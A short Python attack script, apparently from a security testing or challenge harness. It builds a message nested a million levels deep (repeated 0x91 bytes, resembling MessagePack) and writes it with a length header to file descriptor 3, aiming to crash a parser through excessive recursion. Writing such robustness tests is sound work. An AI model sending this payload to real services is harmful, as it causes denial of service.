"""Sends a message nested a million deep."""
import os


def attack(clues):
    body = b"\x91" * 10**6 + b"\xc0"
    data = len(body).to_bytes(4, "big") + bytes(8) + body
    while data:
        data = data[os.write(3, data) :]
    return []
